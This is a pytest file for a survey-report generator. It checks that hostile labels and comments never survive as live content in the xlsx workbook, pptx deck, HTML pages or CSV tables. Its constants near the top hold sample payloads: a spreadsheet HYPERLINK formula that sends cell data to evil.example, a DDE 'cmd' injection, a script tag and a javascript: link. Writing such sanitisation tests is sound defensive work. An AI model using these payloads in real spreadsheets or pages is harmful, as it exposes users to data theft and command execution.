"""Safe client output through a whole report: hostile comments and labels go in, nothing
survives in report.xlsx, report.pptx, the HTML pages or the CSV tables.

The study is a demo-like shape (:func:`analysis_helpers.demo.write_study_shape`) whose
title, client, description, an item label and a segment value label are formulas,
markup and ``javascript:`` links, and whose open comments add e-mail addresses and phone
numbers; the real runner produces the report. Should a notebook not yet cope with the
shape (notebooks 20-50 are being reworked, see tests/test_study_shapes.py), the report
is made again from the notebooks that succeeded, so the deliverables are always checked
on a complete report.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from analysis_helpers.demo import SHAPES, write_study_shape
from analysis_helpers.runner import NotebookFailed, run_report
from analysis_helpers.safe_output import FORMULA_PREFIXES

ROOT = Path(__file__).resolve().parents[1]

pytestmark = pytest.mark.notebooks

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
SCRIPT = "<script>alert(1)</script>"
LINK = "[win](javascript:alert(2))"
EMAIL, PHONE = "zhang.wei@example.com", "138 1234 5678"
COMMENTS = [
    f"{FORMULA} great service",
    f"Call me on {PHONE} about the bill",
    f"write to {EMAIL} {SCRIPT}",
    f"{LINK} the hotline kept me waiting",
    "+cmd|' /C calc'!A0 signal drops",
    "@SUM(1+1) 网络信号差",
]


def _hostile_project(folder: Path) -> Path:
    shape = replace(SHAPES["full"], name="hostile", waves=2)
    path = write_study_shape(folder, shape)
    study = yaml.safe_load(path.read_text(encoding="utf-8"))
    study["study"].update(title=f"Survey {SCRIPT}", client=FORMULA, description=LINK)
    first = next(i for i in study["items"] if i.get("role", "satisfaction") == "satisfaction")
    first["label"] = f"{FORMULA} {SCRIPT}"
    seg = study["segments"][0]
    code = next(iter(seg["values"]))
    seg["values"][code] = f"-1+1 {LINK}"
    path.write_text(yaml.safe_dump(study, allow_unicode=True, sort_keys=False), encoding="utf-8")
    raw = folder / "data" / "raw" / "hostile"
    for f in sorted(raw.glob("wave_*.csv")):
        df = pd.read_csv(f, dtype=str, keep_default_na=False)
        df["comment"] = [COMMENTS[k % len(COMMENTS)] for k in range(len(df))]
        df.to_csv(f, index=False)
    return path


def _report(tmp_path: Path) -> Path:
    study_file = _hostile_project(tmp_path / "p")
    kw = dict(date="2026-01-31", out=tmp_path / "r", root=ROOT, progress=lambda _: None)
    try:
        return run_report(study_file, workers=2, **kw)
    except NotebookFailed as exc:
        assert "deliverables failed" not in str(exc), str(exc)
        kept = next((tmp_path / "r" / "hostile").glob("2026-01-31.failed-*"))
        record = json.loads((kept / "run.json").read_text(encoding="utf-8"))
        ok = [n["name"] for n in record["notebooks"] if n["status"] == "ok"]
        assert len(ok) >= 3, f"too few notebooks cope with the shape: {exc}"
        return run_report(study_file, workers=2, only=ok[1:], **kw)  # run order: cleaning first


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> Path:
    return _report(tmp_path_factory.mktemp("hostile"))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def test_nothing_survives_in_the_workbook(report):
    wb = openpyxl.load_workbook(report / "report.xlsx")
    assert len(wb.sheetnames) > 1
    texts = []
    for ws in wb:
        assert len(ws.title) <= 31
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    if c.value.startswith(FORMULA_PREFIXES):
                        assert c.quotePrefix, (ws.title, c.coordinate, c.value)
                if c.hyperlink is not None:
                    assert c.hyperlink.target is None and ws.title == "Contents"
    # the hostile labels are there, as plain text
    assert any(FORMULA in t for t in texts)
    xml = _xml(report / "report.xlsx")
    assert "<f>" not in xml and "<f " not in xml
    assert EMAIL not in xml and PHONE not in xml
    assert 'TargetMode="External"' not in xml


def test_nothing_survives_in_the_deck(report):
    from pptx import Presentation

    prs = Presentation(report / "report.pptx")
    assert prs.slides[0].shapes.title.text == f"Survey {SCRIPT}"  # shown as typed
    xml = _xml(report / "report.pptx")
    assert "<script" not in xml and "&lt;script&gt;" in xml
    assert EMAIL not in xml and PHONE not in xml
    assert 'TargetMode="External"' not in xml and "hlinkClick" not in xml
    # the charts' embedded workbooks hold no formulas either
    with zipfile.ZipFile(report / "report.pptx") as z:
        for name in z.namelist():
            if name.endswith(".xlsx"):
                inner = zipfile.ZipFile(__import__("io").BytesIO(z.read(name)))
                body = "".join(inner.read(n).decode("utf-8", "replace") for n in inner.namelist())
                assert "<f>" not in body and "<f " not in body


def test_nothing_survives_in_pages_and_csv(report):
    for page in report.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert SCRIPT not in text, page.name
        assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", text, flags=re.I), page.name
        assert EMAIL not in text and PHONE not in text, page.name
    for table in (report / "tables").glob("*.csv"):
        with table.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(FORMULA_PREFIXES):  # a number, or quote-prefixed
                        assert _number(cell), (table.name, cell)
                    assert EMAIL not in cell and PHONE not in cell, table.name
    index = (report / "index.html").read_text(encoding="utf-8")
    assert 'href="report.xlsx"' in index and 'href="report.pptx"' in index
    record = json.loads((report / "run.json").read_text(encoding="utf-8"))
    assert [f["file"] for f in record["deliverables"]["files"]] == ["report.xlsx", "report.pptx"]


def _chart_slides(prs) -> dict:
    """figure name -> the native chart of its slide (the speaker notes name the PNG)."""
    out = {}
    for slide in prs.slides:
        notes = slide.notes_slide.notes_text_frame.text if slide.has_notes_slide else ""
        charts = [sh.chart for sh in slide.shapes if sh.has_chart]
        for line in notes.splitlines():
            if line.startswith("Chart: figures/") and charts:
                out[line.removeprefix("Chart: figures/").removesuffix(".png")] = charts[0]
    return out


def test_the_deck_opens_with_the_summary_and_draws_native_charts_from_the_tables(report):
    from pptx import Presentation
    from pptx.enum.chart import XL_CHART_TYPE

    from analysis_helpers.study import load_study

    record = json.loads((report / "run.json").read_text(encoding="utf-8"))
    study = load_study(record["parameters"]["study_file"])
    prs = Presentation(report / "report.pptx")
    slides = list(prs.slides)
    # the executive summary after the title slide: the summary page's findings, in order
    summary = pd.read_csv(report / "tables" / "summary.csv", encoding="utf-8-sig")
    findings = list(summary.loc[summary["kind"] == "finding", "text"])
    assert findings and summary["section"].iloc[0] == "kpis"
    body, k = [], 1
    while slides[k].shapes.title.text.startswith("Executive summary"):
        body += [
            p.text
            for sh in slides[k].placeholders
            if sh.placeholder_format.idx == 1
            for p in sh.text_frame.paragraphs
        ]
        k += 1
    assert k >= 2 and body == findings
    # native charts whose values are the tables'
    charts = _chart_slides(prs)
    assert {
        "area_index",
        "area_trend",
        "expectation_gap",
        "driver_importance",
        "ipa_quadrants",
    } <= set(charts), sorted(charts)
    index = pd.read_csv(report / "tables" / "area_index.csv", encoding="utf-8-sig")
    areas = index[index["level"] == "area"].sort_values("estimate", ascending=False)
    bar = charts["area_index"]
    assert bar.chart_type == XL_CHART_TYPE.BAR_CLUSTERED
    assert list(bar.plots[0].categories) == [study.label(a) for a in areas["name"]]
    assert list(bar.plots[0].series[0].values) == pytest.approx(list(areas["estimate"]))
    assert bar.value_axis.tick_labels.number_format == "0.0"  # index: one decimal
    line = charts["area_trend"]
    assert line.chart_type == XL_CHART_TYPE.LINE_MARKERS
    by_wave = pd.read_csv(
        report / "tables" / "area_by_wave.csv", encoding="utf-8-sig", dtype={"wave": str}
    )
    waves = [w for w in study.waves if w in set(by_wave["wave"])]
    assert list(line.plots[0].categories) == [study.wave_label(w) for w in waves]
    series = {s.name: list(s.values) for s in line.plots[0].series}
    for name, part in by_wave.groupby("name"):
        expected = part.set_index("wave").loc[waves, "estimate"]
        assert series[study.label(name)] == pytest.approx(list(expected)), name
    imp = charts["driver_importance"]  # 50-drivers: relative weights, most important first
    drivers = pd.read_csv(report / "tables" / "driver_importance.csv", encoding="utf-8-sig")
    assert list(imp.plots[0].categories) == [study.label(d) for d in drivers["driver"]]
    assert list(imp.plots[0].series[0].values) == pytest.approx(
        list(drivers["relative_weight_pct"])
    )
    assert charts["ipa_quadrants"].chart_type == XL_CHART_TYPE.XY_SCATTER
    gap = charts["expectation_gap"]
    assert [s.name for s in gap.plots[0].series] == ["Expectation", "Satisfaction"]
    gaps = pd.read_csv(report / "tables" / "expectation_gap.csv", encoding="utf-8-sig")
    assert list(gap.plots[0].series[1].values) == pytest.approx(list(gaps["satisfaction_100"]))
